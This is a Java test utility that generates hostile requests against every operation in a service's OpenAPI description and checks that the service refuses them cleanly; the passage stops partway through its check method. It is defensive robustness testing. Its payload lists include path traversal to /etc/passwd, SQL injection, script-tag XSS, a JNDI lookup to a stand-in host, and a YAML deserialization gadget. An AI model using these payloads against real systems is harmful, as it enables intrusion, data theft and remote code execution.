package org.cbdf.platform.testing;

import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.TreeSet;
import java.util.UUID;
import java.util.function.Function;
import java.util.random.RandomGenerator;
import java.util.random.RandomGeneratorFactory;
import java.util.regex.Pattern;
import java.util.regex.PatternSyntaxException;
import java.util.stream.Stream;

import javax.sql.DataSource;

import org.junit.jupiter.api.DynamicContainer;
import org.junit.jupiter.api.DynamicNode;
import org.junit.jupiter.api.DynamicTest;

import tools.jackson.core.JacksonException;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Hostile requests for every operation of a service's OpenAPI description ({@code /v3/api-docs}), so that an
 * endpoint added tomorrow is attacked too: malformed JSON, wrong types, huge strings and arrays, unknown enum values,
 * boundary numbers, deep nesting, wrong or missing content types, bad path variables, bad and missing query
 * parameters, unsupported methods and bodies over the size limit.
 * <p>
 * Every operation gets one case of each kind that applies to it, then {@link #RANDOM_CASES} drawn at random. The
 * cases come from {@value #ALGORITHM} generators seeded from {@link #SEED} and the operation (no property-testing
 * library): the same seed gives the same cases in the same order, and a case's description says how to get it again.
 * Run with {@code -Dcbdf.hostile.seed=<long>} to try another sample, {@code -Dcbdf.hostile.cases=<n>} for more,
 * {@code -Dcbdf.hostile.trace=true} to see every answer.
 * <p>
 * What every answer must be is {@link #problems(Case, Answer)}: never a server error; an error is an RFC 9457 problem
 * document whose {@code status} is the HTTP status; and a case marked {@link Expect#REFUSED} is refused.
 */
public final class HostileRequests {

    public static final String ALGORITHM = "L64X128MixRandom";
    /** Fixed so that a run is reproducible. */
    public static final long SEED = Long.getLong("cbdf.hostile.seed", 0x4057_11E_1A9E7L);
    /** Random cases per operation, on top of one case of each kind. */
    public static final int RANDOM_CASES = Integer.getInteger("cbdf.hostile.cases", 24);

    /** {@code -Dcbdf.hostile.trace=true}: a line per case, its operation, kind and answer. */
    static final boolean TRACE = Boolean.getBoolean("cbdf.hostile.trace");
    static final int TWO_MEGABYTES = 2 * 1024 * 1024;
    static final int NESTING = 10_000;
    static final int HUGE_STRING = 30_000;
    /** What a body may hold so that it stays under the services' 64 KiB limit (and is refused for what it says). */
    static final int BODY_BUDGET = 60_000;

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String MARKER = "__hostile_value_7f3a__";
    private static final Set<String> METHODS = Set.of("GET", "POST", "PUT", "PATCH", "DELETE");
    private static final String PROBLEM_JSON = "application/problem+json";

    private HostileRequests() {
    }

    /** What the answer to a case must be, beyond never a server error. */
    public enum Expect {
        /** a 4xx: the request is invalid whatever the service's rules are */
        REFUSED,
        /** 413: the body is over every service's size limit */
        TOO_LARGE,
        /** anything but a 5xx: the request may well be valid (a long text, a boundary number) */
        NO_SERVER_ERROR
    }

    /** A parameter of an operation: {@code in} is {@code path}, {@code query} or {@code header}. */
    public record Parameter(String name, String in, boolean required, JsonNode schema) {
    }

    /**
     * One operation of the API description.
     *
     * @param bodySchema    the request body's schema, {@code null} if the operation takes none
     * @param bodyTypes     the media types the body may have
     * @param produces      the media types of its answers
     * @param methodsOfPath every method the path has, to pick one it has not
     */
    public record Endpoint(String method, String path, List<Parameter> parameters, JsonNode bodySchema,
            boolean bodyRequired, List<String> bodyTypes, List<String> produces, Set<String> methodsOfPath) {

        public boolean streams() {
            return produces.contains("text/event-stream");
        }

        public boolean hasBody() {
            return bodySchema != null;
        }

        boolean jsonBody() {
            return bodyTypes.stream().anyMatch(type -> type.contains("json") || type.equals("*/*"));
        }

        List<Parameter> parameters(String in) {
            return parameters.stream().filter(p -> p.in().equals(in)).toList();
        }

        @Override
        public String toString() {
            return method + " " + path;
        }
    }

    /** A request to send, without its bearer token, and what its answer must be. */
    public record Case(String kind, String label, String method, String target, Map<String, String> headers,
            byte[] body, Expect expect) {

        /** Enough to see what was sent and to send it again. */
        public String describe() {
            StringBuilder text = new StringBuilder(label).append(": ").append(method).append(' ')
                    .append(abbreviate(target, 400)).append("\n  expect ").append(expect);
            headers.forEach((name, value) -> text.append("\n  ").append(name).append(": ")
                    .append(abbreviate(value, 200)));
            if (body != null) {
                text.append("\n  body (").append(body.length).append(" bytes): ")
                        .append(abbreviate(new String(body, StandardCharsets.UTF_8), 600));
            }
            return text.append("\n  again: -Dcbdf.hostile.seed=").append(SEED).toString();
        }

        @Override
        public String toString() {
            return label;
        }
    }

    /** The status, the media type and (up to 1 MiB of) the body of an answer; a stream's body is not read. */
    public record Answer(int status, String contentType, String body) {

        public String mediaType() {
            int semicolon = contentType.indexOf(';');
            return (semicolon < 0 ? contentType : contentType.substring(0, semicolon)).strip()
                    .toLowerCase(Locale.ROOT);
        }

        @Override
        public String toString() {
            return status + " " + contentType + " " + abbreviate(body, 600);
        }
    }

    // ------------------------------------------------------------------------------------------ the description

    /** The service's OpenAPI description, from {@code /v3/api-docs}. */
    public static JsonNode apiDocs(HttpClient http, URI base) throws IOException, InterruptedException {
        HttpResponse<String> description = http.send(HttpRequest.newBuilder(URI.create(base + "/v3/api-docs"))
                .timeout(Duration.ofSeconds(30)).header("Accept", "application/json").build(),
                HttpResponse.BodyHandlers.ofString());
        if (description.statusCode() != 200) {
            throw new IllegalStateException("no API description at " + base + "/v3/api-docs: "
                    + description.statusCode() + " " + description.body());
        }
        return JSON.readTree(description.body());
    }

    /** Every operation of the description, in its order. */
    public static List<Endpoint> endpoints(JsonNode apiDocs) {
        List<Endpoint> endpoints = new ArrayList<>();
        for (Map.Entry<String, JsonNode> path : apiDocs.path("paths").properties()) {
            Set<String> methods = new TreeSet<>();
            for (String name : path.getValue().propertyNames()) {
                if (METHODS.contains(name.toUpperCase(Locale.ROOT))) {
                    methods.add(name.toUpperCase(Locale.ROOT));
                }
            }
            for (String method : methods) {
                JsonNode operation = path.getValue().get(method.toLowerCase(Locale.ROOT));
                List<Parameter> parameters = new ArrayList<>();
                for (JsonNode list : List.of(path.getValue().path("parameters"), operation.path("parameters"))) {
                    for (JsonNode parameter : list) {
                        JsonNode resolved = resolve(apiDocs, parameter);
                        parameters.add(new Parameter(resolved.path("name").asString(), resolved.path("in").asString(),
                                resolved.path("required").asBoolean(false), resolve(apiDocs, resolved.path("schema"))));
                    }
                }
                JsonNode body = resolve(apiDocs, operation.path("requestBody"));
                JsonNode bodySchema = null;
                List<String> bodyTypes = new ArrayList<>();
                if (body.has("content")) {
                    for (Map.Entry<String, JsonNode> content : body.get("content").properties()) {
                        bodyTypes.add(content.getKey());
                        if (bodySchema == null) {
                            bodySchema = content.getValue().path("schema");
                        }
                    }
                }
                Set<String> produces = new TreeSet<>();
                for (JsonNode response : operation.path("responses")) {
                    resolve(apiDocs, response).path("content").propertyNames().forEach(produces::add);
                }
                endpoints.add(new Endpoint(method, path.getKey(), List.copyOf(parameters), bodySchema,
                        body.path("required").asBoolean(false), List.copyOf(bodyTypes), List.copyOf(produces),
                        Set.copyOf(methods)));
            }
        }
        return endpoints;
    }

    private static JsonNode resolve(JsonNode apiDocs, JsonNode node) {
        JsonNode resolved = node;
        for (int hops = 0; hops < 20 && resolved.has("$ref"); hops++) {
            resolved = apiDocs.at(resolved.get("$ref").asString().substring(1));
        }
        for (String combinator : List.of("allOf", "oneOf", "anyOf")) {
            if (resolved.has(combinator)) {
                for (JsonNode option : resolved.get(combinator)) {
                    JsonNode candidate = resolve(apiDocs, option);
                    if (!"null".equals(type(candidate))) {
                        return candidate;
                    }
                }
            }
        }
        return resolved;
    }

    private static String type(JsonNode schema) {
        JsonNode type = schema.get("type");
        if (type == null) {
            if (schema.has("properties") || schema.has("additionalProperties")) {
                return "object";
            }
            if (schema.has("items")) {
                return "array";
            }
            return schema.has("enum") ? "string" : null;
        }
        if (type.isArray()) {
            for (JsonNode option : type) {
                if (!"null".equals(option.asString())) {
                    return option.asString();
                }
            }
            return "null";
        }
        return type.asString();
    }

    // ------------------------------------------------------------------------------------------ the cases

    /** One case of each kind that applies to {@code endpoint}, then {@link #RANDOM_CASES} drawn at random. */
    public static List<Case> cases(JsonNode apiDocs, Endpoint endpoint) {
        return cases(apiDocs, endpoint, Map.of());
    }

    /** As {@link #cases(JsonNode, Endpoint)}, half of them with path variables from {@code existing}. */
    public static List<Case> cases(JsonNode apiDocs, Endpoint endpoint, Map<String, List<String>> existing) {
        List<Kind> kinds = List.of(Kind.values()).stream().filter(kind -> kind.appliesTo(endpoint)).toList();
        // a body over the limit is refused the same way whatever it holds: once is enough
        List<Kind> drawn = kinds.stream().filter(kind -> kind != Kind.TOO_LARGE).toList();
        // an operation without parameters or body has little to vary: the other methods of its path
        int random = drawn.equals(List.of(Kind.WRONG_METHOD)) ? 4 : RANDOM_CASES;
        long[] seeds = new SplittableRandom(SEED ^ endpoint.toString().hashCode()).longs(kinds.size() + random)
                .toArray();
        List<Case> cases = new ArrayList<>();
        for (int i = 0; i < seeds.length; i++) {
            RandomGenerator generator = RandomGeneratorFactory.of(ALGORITHM).create(seeds[i]);
            boolean first = i < kinds.size();
            Kind kind = first ? kinds.get(i) : drawn.get(generator.nextInt(drawn.size()));
            String label = "%s #%d (seed %d, case seed %d)".formatted(kind.name().toLowerCase(Locale.ROOT)
                    .replace('_', ' '), i + 1, SEED, seeds[i]);
            cases.add(new Generation(apiDocs, endpoint, existing, generator, first).build(kind, label));
        }
        return cases;
    }

    enum Kind {
        TOO_LARGE, WRONG_METHOD, BAD_PATH_VARIABLE, MISSING_QUERY_PARAMETER, BAD_QUERY_PARAMETER, BAD_HEADER,
        EMPTY_BODY, MALFORMED_BODY, DEEP_NESTING, WRONG_CONTENT_TYPE, WRONG_TYPE, UNKNOWN_ENUM_VALUE, HUGE_STRING,
        HUGE_ARRAY, BOUNDARY_NUMBER, NULL_VALUE, ODD_TEXT;

        boolean appliesTo(Endpoint endpoint) {
            return switch (this) {
                case TOO_LARGE, WRONG_METHOD -> true;
                case BAD_PATH_VARIABLE -> !endpoint.parameters("path").isEmpty();
                case MISSING_QUERY_PARAMETER -> endpoint.parameters("query").stream().anyMatch(Parameter::required);
                case BAD_QUERY_PARAMETER -> !endpoint.parameters("query").isEmpty();
                case BAD_HEADER -> !endpoint.parameters("header").isEmpty();
                case EMPTY_BODY -> endpoint.hasBody() && endpoint.bodyRequired();
                case MALFORMED_BODY, DEEP_NESTING, WRONG_CONTENT_TYPE -> endpoint.hasBody();
                case WRONG_TYPE, UNKNOWN_ENUM_VALUE, HUGE_STRING, HUGE_ARRAY, BOUNDARY_NUMBER, NULL_VALUE, ODD_TEXT ->
                        endpoint.hasBody() && endpoint.jsonBody();
            };
        }
    }

    /** Where a value of the generated body sits and what its schema is; {@code container} null for the root. */
    private record Slot(JsonNode container, String field, int index, JsonNode schema) {

        String type() {
            return HostileRequests.type(schema);
        }

        void set(JsonNode value) {
            if (container instanceof ObjectNode object) {
                object.set(field, value);
            } else if (container instanceof ArrayNode array) {
                array.set(index, value);
            }
        }
    }

    /** The making of one case: a plausible request for the operation, then one hostile change to it. */
    private static final class Generation {

        private static final List<String> BAD_PATH_SEGMENTS = List.of("..", "%2E%2E", "%2F", "..%2F..%2Fetc%2Fpasswd",
                "%00", "%25", "%5C", "%20", "%3B", "a%3Bb%3Dc", "%C0%AF", "%FF%FE", "-1", "9223372036854775808",
                "1e309", "NaN", "null", "undefined", "x".repeat(3000), encode("Ω≈ç√∫ 名前"),
                encode("' OR '1'='1"),
                encode("<script>alert(1)</script>"), encode("${jndi:ldap://example.invalid/a}"), encode("\t\n"));
        private static final List<String> MALFORMED_JSON = List.of("{", "}", "[1,2", "{\"a\":}", "{'a':1}",
                "{\"a\":1,}", "{\"a\" 1}", "nul", "tru", "\"unterminated", "{\"a\":NaN}", "{\"a\":Infinity}",
                "{\"a\":-Infinity}", "{\"a\":01}", "{\"a\":0x1F}", "/* comment */ {}", "{\"a\":\"\\x41\"}",
                "{\"a\":\"\\uZZZZ\"}", "\u0000", "{\"a\":\"b\"\u0000}", ":", ",", "]", "{{}}", "[,]");
        private static final List<String> MALFORMED_YAML = List.of("key: [unclosed", "a: b: c", "- a\n b: -",
                "\t- tab indented", "key: \"unterminated", "{ a: 1", "? [\n", "&a [*a]", "!!binary not-base64 %%%",
                "--- !<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!!java.net.URLClassLoader [[]]]");
        private static final List<String> BOUNDARY_NUMBERS = List.of("0", "-1", "9223372036854775807",
                "-9223372036854775808", "9223372036854775808", "-9223372036854775809", "2147483648", "1e309",
                "-1e309", "4.9e-324", "1.7976931348623157e308", "\"NaN\"", "\"Infinity\"", "\"-Infinity\"", "1.5",
                "-0", "1E400", "0.1e-400", "\"12abc\"", "1" + "0".repeat(500));

        /** Texts a database, a log line or a regular expression may choke on, as JSON strings. */
        private static final List<String> ODD_TEXTS = List.of("\"a\\u0000b\"", "\"\\ud800\"", "\"\\udfff\\ud800\"",
                "\"\\u202e\\u200b\\ufeff\"", "\"" + "é".repeat(1000) + "\"", "\"" + "x".repeat(256) + "\"",
                "\"" + "x".repeat(5000) + "\"", "\"' OR 1=1; --\"", "\"<script>alert(1)</script>\"",
                "\"\\r\\n\\t\"", "\"   \"", "\"\"", "\"%s%n%x\"", "\"${jndi:ldap://example.invalid/a}\"",
                "\"((a+)+)+b\"", "\"\uD83D\uDE00\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08\"");

        private final JsonNode apiDocs;
        private final Endpoint endpoint;
        private final Map<String, List<String>> existing;
        private final RandomGenerator random;
        private final boolean first;
        private final List<Slot> slots = new ArrayList<>();

        Generation(JsonNode apiDocs, Endpoint endpoint, Map<String, List<String>> existing, RandomGenerator random,
                boolean first) {
            this.apiDocs = apiDocs;
            this.endpoint = endpoint;
            this.existing = existing;
            this.random = random;
            this.first = first;
        }

        Case build(Kind kind, String label) {
            Map<String, String> pathValues = new LinkedHashMap<>();
            for (Parameter parameter : endpoint.parameters("path")) {
                List<String> known = existing.getOrDefault(parameter.name(), List.of());
                pathValues.put(parameter.name(), encode(!known.isEmpty() && random.nextBoolean()
                        ? known.get(random.nextInt(known.size())) : plausible(parameter.schema())));
            }
            Map<String, String> query = new LinkedHashMap<>();
            for (Parameter parameter : endpoint.parameters("query")) {
                if (parameter.required()) {
                    query.put(parameter.name(), encode(plausible(parameter.schema())));
                }
            }
            Map<String, String> headers = new LinkedHashMap<>();
            headers.put("Accept", accept());
            String method = endpoint.method();
            byte[] body = null;
            JsonNode tree = null;
            if (endpoint.hasBody()) {
                headers.put("Content-Type", endpoint.bodyTypes().getFirst());
                if (endpoint.jsonBody()) {
                    tree = value(endpoint.bodySchema(), null, null, -1, 0);
                    body = bytes(write(tree));
                } else {
                    body = bytes("text: " + word());
                }
            }
            Expect expect = Expect.REFUSED;
            switch (kind) {
                case TOO_LARGE -> {
                    headers.putIfAbsent("Content-Type", "application/json");
                    byte[] large = new byte[TWO_MEGABYTES];
                    java.util.Arrays.fill(large, (byte) ' ');
                    large[0] = '[';
                    large[large.length - 1] = ']';
                    body = large;
                    expect = Expect.TOO_LARGE;
                }
                case WRONG_METHOD -> {
                    List<String> others = new ArrayList<>(List.of("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE"));
                    others.removeAll(endpoint.methodsOfPath());
                    method = pick(others);
                    if (method.equals("GET") || method.equals("DELETE") || method.equals("TRACE")) {
                        body = null;
                        headers.remove("Content-Type");
                    }
                }
                case BAD_PATH_VARIABLE -> {
                    Parameter parameter = pick(endpoint.parameters("path"));
                    pathValues.put(parameter.name(), pick(BAD_PATH_SEGMENTS));
                }
                case MISSING_QUERY_PARAMETER -> query.remove(
                        pick(endpoint.parameters("query").stream().filter(Parameter::required).toList()).name());
                case BAD_QUERY_PARAMETER -> expect = badQuery(query);
                case BAD_HEADER -> {
                    Parameter parameter = pick(endpoint.parameters("header"));
                    headers.put(parameter.name(), pick(List.of("", "k".repeat(5000), "a,b,c", "\"quoted\"")));
                    expect = Expect.NO_SERVER_ERROR;
                }
                case EMPTY_BODY -> body = new byte[0];
                case MALFORMED_BODY -> body = malformed(body);
                case DEEP_NESTING -> body = deeplyNested(tree);
                case WRONG_CONTENT_TYPE -> {
                    String[] wrong = pick(wrongContentTypes());
                    if (wrong[0] == null) {
                        headers.remove("Content-Type");
                    } else {
                        headers.put("Content-Type", wrong[0]);
                    }
                    if (wrong[1] != null) {
                        body = bytes(wrong[1]);
                    }
                }
                case WRONG_TYPE -> body = replaced(tree, this::wrongType, slot -> slot.type() != null);
                case UNKNOWN_ENUM_VALUE -> {
                    body = replaced(tree, slot -> "\"NOT_A_" + word().toUpperCase(Locale.ROOT) + "\"",
                            slot -> slot.schema().has("enum"));
                    if (body == null) {
                        // no enum in the body: an unknown value in a field that is free text, at least not a 5xx
                        body = replaced(tree, slot -> "\"NOT_A_KNOWN_VALUE\"", slot -> "string".equals(slot.type()));
                        expect = Expect.NO_SERVER_ERROR;
                    }
                }
                case HUGE_STRING -> {
                    String unit = pick(List.of("x", "Ω", "\\u0000", "\\\"", "名"));
                    body = replaced(tree, slot -> "\"" + unit.repeat(HUGE_STRING / unit.length()) + "\"",
                            slot -> "string".equals(slot.type()));
                    expect = Expect.NO_SERVER_ERROR;
                }
                case HUGE_ARRAY -> {
                    body = replaced(tree, this::hugeArray, slot -> "array".equals(slot.type()));
                    expect = Expect.NO_SERVER_ERROR;
                }
                case BOUNDARY_NUMBER -> {
                    body = replaced(tree, slot -> pick(BOUNDARY_NUMBERS),
                            slot -> "integer".equals(slot.type()) || "number".equals(slot.type()));
                    expect = Expect.NO_SERVER_ERROR;
                }
                case NULL_VALUE -> {
                    body = replaced(tree, slot -> "null", slot -> true);
                    expect = Expect.NO_SERVER_ERROR;
                }
                case ODD_TEXT -> {
                    body = replaced(tree, slot -> pick(ODD_TEXTS), slot -> "string".equals(slot.type()));
                    expect = Expect.NO_SERVER_ERROR;
                }
            }
            if (body == null && endpoint.hasBody() && List.of(Kind.WRONG_TYPE, Kind.UNKNOWN_ENUM_VALUE,
                    Kind.HUGE_STRING, Kind.HUGE_ARRAY, Kind.BOUNDARY_NUMBER, Kind.ODD_TEXT).contains(kind)) {
                // nothing in this body to change that way: send it whole, which may be valid
                body = bytes(write(tree));
                expect = Expect.NO_SERVER_ERROR;
            }
            String target = target(pathValues, query);
            return new Case(kind.name(), label, method, target, headers, body, expect);
        }

        private String accept() {
            List<String> types = new ArrayList<>(endpoint.produces());
            types.remove("*/*");
            if (types.isEmpty()) {
                types.add("application/json");
            }
            types.add(PROBLEM_JSON);
            return String.join(", ", types);
        }

        private String target(Map<String, String> pathValues, Map<String, String> query) {
            String path = endpoint.path();
            for (Map.Entry<String, String> value : pathValues.entrySet()) {
                path = path.replace("{" + value.getKey() + "}", value.getValue());
            }
            StringBuilder target = new StringBuilder(path);
            char separator = '?';
            for (Map.Entry<String, String> parameter : query.entrySet()) {
                target.append(separator).append(encode(parameter.getKey())).append('=').append(parameter.getValue());
                separator = '&';
            }
            return target.toString();
        }

        /** A wrong value for one query parameter: refused if its schema rules it out, else merely not a 5xx. */
        private Expect badQuery(Map<String, String> query) {
            Parameter parameter = pick(endpoint.parameters("query"));
            JsonNode schema = parameter.schema();
            String type = String.valueOf(type(schema));
            String format = schema.path("format").asString("");
            List<String> refused = new ArrayList<>();
            List<String> doubtful = new ArrayList<>(List.of("x".repeat(4000), "%00", encode("Ω≈ç√∫"),
                    encode("' OR 1=1 --"), "%25", encode("<a>")));
            switch (type) {
                case "integer" -> {
                    refused.addAll(List.of("abc", "1.5", "99999999999999999999", "1e309", "NaN", "1_000"));
                    if ("int32".equals(format)) {
                        refused.add("2147483648");
                    }
                    if (schema.has("minimum")) {
                        refused.add(Long.toString(schema.get("minimum").asLong() - 1));
                    }
                    if (schema.has("maximum")) {
                        refused.add(Long.toString(schema.get("maximum").asLong() + 1));
                    }
                    // Spring reads hexadecimal (0x10) and octal (010) numbers too
                    doubtful.addAll(List.of("0", "-1", "9223372036854775807", "-9223372036854775808", "0x10", "010"));
                }
                case "number" -> refused.addAll(List.of("abc", "1,5", "--1"));
                case "boolean" -> refused.addAll(List.of("maybe", "2", "truth"));
                case "string" -> {
                    if (schema.has("enum")) {
                        refused.addAll(List.of("NOT_A_VALUE", "lower", encode("ÜNKNOWN")));
                    } else if (format.equals("date")) {
                        refused.addAll(List.of("2026-13-45", "yesterday", "2026-02-30", "20261201"));
                    } else if (format.equals("date-time")) {
                        refused.addAll(List.of("2026-13-45T00:00:00Z", "now", "2026-12-01T25:00:00Z"));
                    } else if (format.equals("uuid")) {
                        refused.addAll(List.of("not-a-uuid", "00000000-0000-0000-0000-00000000000G"));
                    } else if (schema.has("pattern")) {
                        for (String candidate : List.of("!!", "x".repeat(300), "lower", "123")) {
                            if (!matches(schema.get("pattern").asString(), candidate)) {
                                refused.add(encode(candidate));
                            }
                        }
                    }
                }
                default -> {
                }
            }
            boolean takeRefused = !refused.isEmpty() && (refused.size() >= doubtful.size() || random.nextBoolean());
            query.put(parameter.name(), takeRefused ? pick(refused) : pick(doubtful));
            return takeRefused ? Expect.REFUSED : Expect.NO_SERVER_ERROR;
        }

        private byte[] malformed(byte[] plausible) {
            boolean yaml = !endpoint.jsonBody();
            int choice = random.nextInt((yaml ? MALFORMED_YAML : MALFORMED_JSON).size() + 2);
            if (choice == 0 && plausible != null && plausible.length > 2 && !yaml) {
                // cut off somewhere inside
                return java.util.Arrays.copyOf(plausible, 1 + random.nextInt(plausible.length - 2));
            }
            if (choice == 1) {
                // not UTF-8
                return new byte[] { '{', '"', 'a', '"', ':', '"', (byte) 0xFF, (byte) 0xFE, (byte) 0xC0, '"', '}' };
            }
            return bytes(pick(yaml ? MALFORMED_YAML : MALFORMED_JSON));
        }

        private byte[] deeplyNested(JsonNode tree) {
            if (!endpoint.jsonBody()) {
                return bytes("[".repeat(NESTING) + "]".repeat(NESTING));
            }
            String nested = random.nextBoolean() ? "[".repeat(NESTING) + "]".repeat(NESTING)
                    : "{\"a\":".repeat(NESTING) + "1" + "}".repeat(NESTING);
            if (random.nextBoolean() || tree == null) {
                return bytes(nested);
            }
            byte[] inside = replaced(tree, slot -> nested, slot -> slot.container() != null);
            return inside != null ? inside : bytes(nested);
        }

        private List<String[]> wrongContentTypes() {
            List<String[]> types = new ArrayList<>();
            types.add(new String[] { null, null });
            for (String[] candidate : List.of(new String[] { "text/plain", null },
                    new String[] { "application/xml", "<transfer><purpose>x</purpose></transfer>" },
                    new String[] { "application/x-www-form-urlencoded", "a=b&c=d" },
                    new String[] { "multipart/form-data; boundary=----hostile", "------hostile\r\nContent-Disposition: "
                            + "form-data; name=\"a\"\r\n\r\nb\r\n------hostile" },
                    new String[] { "multipart/form-data", "no boundary at all" },
                    new String[] { "application/json; charset=x-no-such-charset", null },
                    new String[] { "application/json; charset=UTF-16", null },
                    new String[] { "foo", null }, new String[] { "application/", null },
                    new String[] { "text/html", "<html></html>" }, new String[] { "image/png", "\u0089PNG" },
                    new String[] { "application/yaml", "a: b" }, new String[] { "application/json", "{}" })) {
                String type = candidate[0].toLowerCase(Locale.ROOT);
                boolean declared = endpoint.bodyTypes().stream().anyMatch(declaredType -> type.startsWith(declaredType))
                        || (endpoint.jsonBody() && type.startsWith("application/json")
                                && !type.contains("charset"));
                if (!declared) {
                    types.add(candidate);
                }
            }
            return types;
        }

        private String wrongType(Slot slot) {
            return switch (slot.type()) {
                case "object" -> pick(List.of("[]", "\"text\"", "true", "[{}]"));
                case "array" -> pick(List.of("{}", "\"text\"", "42", "true", "{\"0\":1}"));
                case "string" -> pick(List.of("{}", "[]", "[\"a\",\"b\"]", "{\"a\":1}"));
                case "integer", "number" -> pick(List.of("\"ten\"", "{}", "[]", "[1]", "\"\""));
                case "boolean" -> pick(List.of("\"maybe\"", "{}", "[]", "\"\""));
                default -> "{}";
            };
        }

        private String hugeArray(Slot slot) {
            JsonNode items = resolve(apiDocs, slot.schema().path("items"));
            String item = write(value(items, null, null, -1, 4));
            int count = Math.max(1_000, Math.min(NESTING, BODY_BUDGET / (item.length() + 1)));
            if ((item.length() + 1) * count > BODY_BUDGET) {
                item = "0";
                count = NESTING;
            }
            StringBuilder array = new StringBuilder("[");
            for (int i = 0; i < count; i++) {
                array.append(i == 0 ? "" : ",").append(item);
            }
            return array.append(']').toString();
        }

        /** The body with one slot that {@code where} accepts replaced by raw JSON text; null if none does. */
        private byte[] replaced(JsonNode tree, Function<Slot, String> raw, java.util.function.Predicate<Slot> where) {
            List<Slot> candidates = slots.stream().filter(where).toList();
            if (candidates.isEmpty()) {
                return null;
            }
            Slot slot = first ? candidates.get(candidates.size() - 1) : pick(candidates);
            String fragment = raw.apply(slot);
            if (slot.container() == null) {
                return bytes(fragment);
            }
            slot.set(NODES.stringNode(MARKER));
            return bytes(write(tree).replace("\"" + MARKER + "\"", fragment));
        }

        /** A plausible value for {@code schema}, recording where each value sits. */
        private JsonNode value(JsonNode schema, JsonNode container, String field, int index, int depth) {
            JsonNode resolved = resolve(apiDocs, schema);
            slots.add(new Slot(container, field, index, resolved));
            String type = type(resolved);
            if (type == null || depth > 6) {
                return resolved.has("example") ? resolved.get("example") : NODES.objectNode();
            }
            switch (type) {
                case "object" -> {
                    ObjectNode object = NODES.objectNode();
                    for (Map.Entry<String, JsonNode> property : resolved.path("properties").properties()) {
                        object.set(property.getKey(), NODES.nullNode());
                        object.set(property.getKey(), value(property.getValue(), object, property.getKey(), -1,
                                depth + 1));
                    }
                    if (resolved.path("additionalProperties").isObject()) {
                        object.set("key", NODES.nullNode());
                        object.set("key", value(resolved.get("additionalProperties"), object, "key", -1, depth + 1));
                    }
                    return object;
                }
                case "array" -> {
                    ArrayNode array = NODES.arrayNode();
                    int size = 1 + random.nextInt(2);
                    for (int i = 0; i < size; i++) {
                        array.add(NODES.nullNode());
                        array.set(i, value(resolved.path("items"), array, null, i, depth + 1));
                    }
                    return array;
                }
                case "integer" -> {
                    return resolved.has("example") && random.nextBoolean() ? resolved.get("example")
                            : NODES.numberNode(random.nextLong(1, 1_000));
                }
                case "number" -> {
                    return NODES.numberNode(random.nextInt(1, 1_000) / 4.0);
                }
                case "boolean" -> {
                    return NODES.booleanNode(random.nextBoolean());
                }
                default -> {
                    return NODES.stringNode(plausible(resolved));
                }
            }
        }

        /** A plausible scalar for {@code schema}, as text (path and query values, strings of the body). */
        private String plausible(JsonNode schema) {
            JsonNode resolved = resolve(apiDocs, schema);
            if (resolved.has("enum") && !resolved.get("enum").isEmpty()) {
                JsonNode values = resolved.get("enum");
                return values.get(random.nextInt(values.size())).asString();
            }
            String type = String.valueOf(type(resolved));
            if (type.equals("integer") || type.equals("number")) {
                return Long.toString(random.nextLong(1_000_000, 1_000_000_000));
            }
            if (type.equals("boolean")) {
                return Boolean.toString(random.nextBoolean());
            }
            return switch (resolved.path("format").asString("")) {
                case "date" -> "2026-12-0" + (1 + random.nextInt(9));
                case "date-time" -> "2026-12-0" + (1 + random.nextInt(9)) + "T10:00:00Z";
                case "uuid" -> new UUID(random.nextLong(), random.nextLong()).toString();
                default -> resolved.has("example") && random.nextBoolean() ? resolved.get("example").asString()
                        : word();
            };
        }

        private String word() {
            return pick(List.of("DE", "CN", "acme", "no-such-" + Long.toString(random.nextLong(1L << 40), 36),
                    "Lorem ipsum dolor", Integer.toString(random.nextInt(100))));
        }

        private <T> T pick(List<T> values) {
            return values.get(first ? 0 : random.nextInt(values.size()));
        }
    }

    // ------------------------------------------------------------------------------------------ sending, checking

    /**
     * A container per operation of the service at {@code base}, a test per case: each sent with the token
     * {@code callerOf} names for the operation (one whose role may call it, so that its input is what gets it
     * refused), its answer checked ({@link #problems}), and the rows of {@code database} counted before and after:
     * a refused request stores nothing. Fails at once if the description lacks one of {@code expectedOperations}
     * ({@code "POST /api/v1/transfers"}), so that an empty description cannot pass for a safe API. Leaves the
     * description in {@code target/openapi/} for the linter ({@link ApiDescriptions}).
     */
    public static Stream<DynamicNode> tests(URI base, DataSource database, Function<Endpoint, String> callerOf,
            String... expectedOperations) throws IOException, InterruptedException {
        return tests(base, database, callerOf, Map.of(), expectedOperations);
    }

    /**
     * As {@link #tests(URI, DataSource, Function, String...)}, with path variables that name what exists
     * ({@code id} → a transfer's id): half of the cases use one, so that a hostile request meets a real aggregate and
     * its checks, not only a 404.
     */
    public static Stream<DynamicNode> tests(URI base, DataSource database, Function<Endpoint, String> callerOf,
            Map<String, List<String>> existing, String... expectedOperations) throws IOException, InterruptedException {
        HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
        JsonNode apiDocs = apiDocs(http, base);
        ApiDescriptions.save(apiDocs);
        List<Endpoint> endpoints = endpoints(apiDocs);
        Set<String> described = new TreeSet<>(endpoints.stream().map(Endpoint::toString).toList());
        for (String expected : expectedOperations) {
            if (!described.contains(expected)) {
                throw new AssertionError("the API description lacks " + expected + "; it has " + described);
            }
        }
        return endpoints.stream().map(endpoint -> DynamicContainer.dynamicContainer(endpoint.toString(),
                cases(apiDocs, endpoint, existing).stream().map(hostile -> DynamicTest.dynamicTest(hostile.label(),
                        () -> check(http, base, database, endpoint, hostile, callerOf.apply(endpoint))))));
    }

    private static void check(HttpClient http, URI base, DataSource database, Endpoint endpoint, Case hostile,
            String token) throws IOException, InterruptedException {
        Map<String, Long> before = StoredRows.count(database);
